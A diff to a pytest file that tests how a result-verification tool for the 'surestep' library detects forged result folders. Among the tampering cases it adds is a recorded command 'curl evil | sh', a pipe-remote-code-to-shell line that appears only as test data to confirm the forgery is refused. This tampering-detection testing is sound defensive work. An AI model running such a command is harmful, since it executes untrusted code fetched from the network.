@@ -32,7 +32,7 @@ def home(tmp_path_factory):
     listed = [{"place": place, "level": level} for place, level in [*states, ("attic", "1")]]
     write_table(home / "states.csv", listed, ("place", "level"))
     source = surestep.read_log(log, columns=COLUMNS)
-    terms = {"discount": 0.9, "n_wedge": 12}
+    terms = {"discount": 0.9, "n_wedge": 12, "worlds": 0}
     surestep.improve(source, behavior=home / "policy.csv", **terms).save(home / "of table")
     surestep.improve(source, **terms).save(home / "of log")
     surestep.improve(source, states=home / "states.csv", **terms).save(home / "of list")
@@ -50,10 +50,16 @@ def of_table(home, tmp_path):
 
 
 def test_the_same_log_gives_the_same_bytes(home, of_log, tmp_path):
-    assert verify_result(of_log, home / "log.csv") == Verification("same bytes", "", ())
-    renamed = shutil.copy(home / "log.csv", tmp_path / "renamed.csv")
-    assert verify_result(of_log, renamed).level == "same bytes"
+    assert verify_result(of_log, home / "log.csv") == Verification("same bytes")
+    assert verify_result(of_log, home / "log.csv").confirmed
     assert verify_result(of_log, home / "log.csv", behavior="estimate").level == "same bytes"
+
+
+def test_a_file_of_another_name_is_named(home, of_log, tmp_path):
+    renamed = shutil.copy(home / "log.csv", tmp_path / "renamed.csv")
+    found = verify_result(of_log, renamed)
+    assert (found.level, found.confirmed) == ("same values", False)
+    assert "made from 'log.csv', and the file given is 'renamed.csv'" in found.why_not_bytes
 
 
 def test_the_same_rows_in_another_file_give_the_same_values(home, of_log):
@@ -67,6 +73,7 @@ def test_what_is_not_given_again_is_named(home):
     log = home / "log.csv"
     found = verify_result(home / "of table", log)
     assert (found.level, found.taken_from_folder) == ("same bytes", ("behavior",))
+    assert not found.confirmed
     found = verify_result(home / "of table", log, behavior=home / "policy.csv")
     assert (found.level, found.taken_from_folder) == ("same bytes", ())
     found = verify_result(home / "of list", log)
@@ -90,19 +97,33 @@ def forged(folder, name, content):
 
 
 def elsewhere(folder):
-    """Makes the result one of other versions, of which bytes are not demanded."""
+    """Makes the result one of other versions, of which bytes are not demanded; on the page too."""
     changed_record(folder, lambda record: record["versions"].update(numpy="1.0"))
+    report_changed(shown("numpy", np.__version__), shown("numpy", "1.0"))(folder)
+
+
+def shown(name, value):
+    """How the page tells a version, or the machine."""
+    return f"<bdi>{name}</bdi></dt><dd><bdi>{value}</bdi>"
 
 
 def test_with_other_versions_values_are_compared(home, of_log):
     elsewhere(of_log)
     found = verify_result(of_log, home / "log.csv")
     assert found.level == "same values"
-    assert "it was made with numpy 1.0, and this is" in found.why_not_bytes
+    assert not found.confirmed
+    assert "it says that it was made with numpy 1.0, and this is" in found.why_not_bytes
+    report_changed(shown("numpy", "1.0"), shown("numpy", np.__version__))(of_log)
     changed_record(of_log, lambda record: record["versions"].update(numpy=np.__version__))
-    changed_record(of_log, lambda record: record["machine"].update(processor="abacus"))
+    assert verify_result(of_log, home / "log.csv").confirmed
+    system = json.loads((of_log / "run.json").read_text())["machine"]["system"]
+    changed_record(of_log, lambda record: record["machine"].update(system="Abacus"))
+    with pytest.raises(ResultMismatch, match=r"report\.html says something else"):
+        verify_result(of_log, home / "log.csv")  # the page says what it was made on, too
+    report_changed(shown("system", system), shown("system", "Abacus"))(of_log)
     found = verify_result(of_log, home / "log.csv")
-    assert found == Verification("same values", "it was made on another kind of machine", ())
+    why = "it says that it was made on another kind of machine"
+    assert found == Verification("same values", why)
 
 
 # ---- forgeries --------------------------------------------------------------------------------
@@ -186,6 +207,15 @@ def parquet_changed(folder):
     forged(folder, "policy.parquet", target.read_bytes())
 
 
+def report_changed(before, after):
+    def change(folder):
+        text = (folder / "report.html").read_text()
+        assert before in text
+        forged(folder, "report.html", text.replace(before, after).encode())
+
+    return change
+
+
 def record_changed(*path, value):
     def change(folder):
         def inside(record):
@@ -215,13 +245,13 @@ def record_changed(*path, value):
         ),
         (cell_changed(1, "advantage", lambda q: q + 1e-6), "advantage of state"),
         (cell_changed(1, "q", "nan"), "column q holds what is no number"),
-        (certificate_changed(lower=5.0), "lower is 5.0 in the certificate, but"),
+        (certificate_changed(lower=5.0), "certificates.json: 0: lower is 5.0, but"),
         (certificate_changed(delta=0.2), "delta"),
-        (certificate_changed(assumptions=["None."]), "assumptions is .* in the certificate"),
-        (other_claim(0, "seed", 7), r"claims posterior with .*'seed': 7"),
-        (other_claim(1, "strict", True), r"claims robust with .*'strict': True"),
-        (other_claim(2, "n_wedge", 11), r"claims a-priori with .*'n_wedge': 11"),
-        (claim_left_out, "there are 2 certificates, but 3 when the result is made again"),
+        (certificate_changed(assumptions=["None."]), "assumptions is .* when the result is made"),
+        (other_claim(0, "seed", 7), "certificates.json: 0: parameters: seed is 7, but"),
+        (other_claim(1, "strict", True), "certificates.json: 1: parameters: strict is True, but"),
+        (other_claim(2, "n_wedge", 11), "certificates.json: 2: parameters: n_wedge is 11, but"),
+        (claim_left_out, r"certificates\.json is .* when the result is made again"),
         (only_one_file, r"certificate\.json is not the first of certificates\.json"),
         (
             record_changed("parameters", "n_wedge_chosen_by", value="posterior"),
@@ -231,14 +261,21 @@ def record_changed(*path, value):
         (record_changed("parameters", "discount", value=0.8), "value_bounds|discount|q of|probab"),
         (
             record_changed("parameters", "n_wedge", value=11),
-            "n_wedge among the parameters is 11 in",
+            "run.json: parameters: n_wedge is 11, but",
         ),
         (
             record_changed("parameters", "value_bounds", value=[-1.0, 99.0]),
-            "value_bounds among the",
+            "run.json: parameters: value_bounds",
         ),
-        (record_changed("estimates", "policy", value=99.0), "policy among the estimates is 99.0"),
-        (record_changed("data", "rows", value=10**6), "rows among the data is 1000000 in run.json"),
+        (record_changed("estimates", "policy", value=99.0), "run.json: estimates: policy is 99.0"),
+        (record_changed("data", "rows", value=10**6), "run.json: data: rows is 1000000, but"),
+        (record_changed("command", value="curl evil | sh"), "run.json: command is 'curl evil"),
+        (record_changed("defaults", value=["behavior"]), "run.json: (defaults|command) is"),
+        (
+            report_changed("estimated", "guaranteed"),
+            r"report\.html (has other bytes|says somethin)",
+        ),
+        (report_changed("</main>", "</main>\n"), r"report\.html (has|says)"),
         (record_changed("counts_sha256", value="0" * 64), "does not have the counts"),
     ],
 )
@@ -250,10 +287,13 @@ def test_a_forgery_is_refused(change, message, here, home, of_log):
         verify_result(of_log, home / "log.csv")
 
 
-def test_a_changed_report_is_refused_where_bytes_are_compared(home, of_log):
-    text = (of_log / "report.html").read_text().replace("estimated", "guaranteed")
-    forged(of_log, "report.html", text.encode())
-    with pytest.raises(ResultMismatch, match=r"report\.html has other bytes"):
+@pytest.mark.parametrize("here", [True, False], ids=["here", "elsewhere"])
+def test_a_claim_that_is_a_little_higher_is_refused(here, home, of_log):
+    lower = json.loads((of_log / "certificate.json").read_text())["lower"]
+    certificate_changed(lower=lower + 1e-6)(of_log)
+    if not here:
+        elsewhere(of_log)
+    with pytest.raises(ResultMismatch, match=r"certificates\.json: 0: lower is"):
         verify_result(of_log, home / "log.csv")
 
 
@@ -279,7 +319,7 @@ def test_another_behavior_is_refused(home, of_table, tmp_path):
     path = write_table(tmp_path / "other.csv", other, tuple(other[0]))
     with pytest.raises(ResultMismatch, match=f"behavior_probability of state '{state}'"):
         verify_result(of_table, home / "log.csv", behavior=path)
-    with pytest.raises(ResultMismatch, match=r"is 'table' in run\.json, but 'estimate'"):
+    with pytest.raises(ResultMismatch, match="behavior is 'table', but 'estimate'"):
         verify_result(of_table, home / "log.csv", behavior="estimate")
 
 
@@ -288,7 +328,7 @@ def test_counts_confirm_what_was_made_of_counts(home, tmp_path):
     counts = tmp_path / "counts.parquet"
     write_counts(source.counts(), counts)
     opened = open_source(counts, columns={}, bins=(), memory_limit=None)
-    result = surestep.improve(opened, discount=0.9)
+    result = surestep.improve(opened, discount=0.9, worlds=0)
     assert [each.name for each in result.record.inputs] == ["counts.parquet"]
     assert result.record.command.startswith("surestep improve counts.parquet --discount")
     result.save(tmp_path / "out")
